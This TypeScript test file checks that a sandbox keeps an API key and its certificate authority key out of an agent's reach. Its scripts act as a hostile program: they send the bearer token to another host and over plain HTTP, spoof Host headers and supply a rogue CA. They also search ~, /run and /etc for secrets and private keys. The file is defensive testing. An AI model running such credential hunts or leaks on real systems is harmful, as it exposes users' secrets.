import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import { ConnectedWorld, useInternet } from "../internet/connected-world.ts";
import type { Internet } from "../internet/internet.ts";

/** What a hostile program inside, or a hostile project, tries to get at a key that stays outside. */

const VALUE = "sk-real-0123456789abcdef";
const PROXIES = `proxies = [{ host = "web.test", inject = { bearer = true, secret = "key", env = "API_KEY" } }]\n`;

function makeWorld(internet: Internet, configuration = PROXIES): ConnectedWorld {
  const world = new ConnectedWorld(internet);
  world.write(".config/pale/config.toml", configuration);
  world.write(".config/pale/secrets.toml", `[key]\nvalue = "${VALUE}"\n`, 0o600);
  return world;
}

describe("a key that stays outside", () => {
  const startInternet = useInternet();
  const trusting = (internet: Internet) => ({ env: { SSL_CERT_FILE: internet.caFile } });

  test("is not sent to a host that the first one leads to, nor in the clear", (t) => {
    const internet = startInternet(t);
    if (!internet) return;
    using world = makeWorld(internet, `allow = ["other.test"]\n${PROXIES}`);
    const before = internet.requests().length;
    const script = `curl -sS https://web.test/headers -H "Authorization: Bearer $API_KEY"
      curl -sS --cacert ca.pem https://other.test/headers -H "Authorization: Bearer $API_KEY"
      curl -sS http://web.test/headers -H "Authorization: Bearer $API_KEY"
      curl -sS http://other.test/headers -H "Host: web.test"; echo "$API_KEY"`;
    const { stdout } = world.inside(script, trusting(internet));
    const shown = internet
      .requests()
      .slice(before)
      .map(({ headers }) => headers["authorization"]);
    const placeholder = stdout.trim().split("\n").at(-1);
    assert.deepEqual(shown, [`Bearer ${VALUE}`, `Bearer ${placeholder}`]);
    assert.equal(stdout.includes(VALUE), false);
    assert.match(stdout, /web\.test:80 is refused/u);
  });

  test("has the same placeholder at every launch", (t) => {
    const internet = startInternet(t);
    if (!internet) return;
    using world = makeWorld(internet);
    const [one, two] = [1, 2].map(() => world.inside("echo $API_KEY", trusting(internet)).stdout);
    assert.match(one ?? "", /^sk-[a-z]{4}-\d{10}[a-z]{6}\n$/u);
    assert.equal(one, two);
  });

  test("is not put in for a project that asks for it, until that is trusted", (t) => {
    const internet = startInternet(t);
    if (!internet) return;
    using world = makeWorld(internet, "");
    world.write("work/project/.pale.toml", PROXIES);
    const script = "curl -sS https://web.test/headers; echo [$API_KEY]";
    const untrusted = world.inside(script, trusting(internet));
    assert.match(
      untrusted.stderr,
      /`proxies` widens what an agent may do, and this file is not trusted/u,
    );
    const flags = ["--no-project-file", "--network", "filtered"];
    assert.match(world.inside(script, { flags, ...trusting(internet) }).stdout, /^\[\]$/mu);
    assert.equal(existsSync(join(world.home, ".local/state/pale/authority.pem")), false);
  });

  test("is not given to a server that only files of the project vouch for", (t) => {
    const internet = startInternet(t);
    if (!internet) return;
    using world = makeWorld(internet);
    const before = internet.requests().length;
    const script = "curl -sS https://web.test/headers";
    const own = { env: { SSL_CERT_FILE: join(world.project, "ca.pem") } };
    assert.match(world.inside(script, own).stdout, /certificate is not valid/u);
    const flags = ["-e", `SSL_CERT_FILE=${world.project}/ca.pem`];
    assert.match(world.inside(script, { flags }).stdout, /certificate is not valid/u);
    assert.deepEqual(internet.requests().slice(before), []);
    assert.match(world.inside(script, trusting(internet)).stdout, /Bearer sk-/u, "the control");
  });

  for (const mode of ["whitelist", "blacklist"]) {
    test(`is in no file inside, nor is the key that certifies hosts (${mode})`, (t) => {
      const internet = startInternet(t);
      if (!internet) return;
      using world = makeWorld(internet);
      const script = `find ~ /run /etc -name authority.pem -o -name secrets.toml 2>/dev/null
        cat ~/.local/state/pale/authority.pem ~/.config/pale/secrets.toml
        grep -rls 'BEGIN PRIVATE KEY' ~ /run /etc/ssl; echo done`;
      const flags = mode === "blacklist" ? ["--mode", "blacklist"] : [];
      const { stdout, stderr } = world.inside(script, { flags, ...trusting(internet) });
      assert.equal(stdout, "done\n", stderr);
      assert.equal(world.outside(script).stdout.includes("BEGIN PRIVATE KEY"), true, "the control");
      const authority = readFileSync(join(world.home, ".local/state/pale/authority.pem"), "utf8");
      assert.match(authority, /BEGIN PRIVATE KEY/u);
    });
  }

  test("stops a launch that would show the file it is in", (t) => {
    const internet = startInternet(t);
    if (!internet) return;
    using world = makeWorld(internet);
    world.write("keys/key", `${VALUE}\n`, 0o600);
    world.write(".config/pale/secrets.toml", `[key]\nfile = "~/keys/key"\n`, 0o600);
    const flags = ["--ro", `${world.home}/keys`];
    const { stderr } = world.inside("cat ~/keys/key", { flags, ...trusting(internet) });
    assert.match(stderr, /an agent could read `.*keys\/key`, which holds a secret/u);
    assert.equal(world.inside("echo ok", trusting(internet)).stdout, "ok\n", "the control");
  });
});
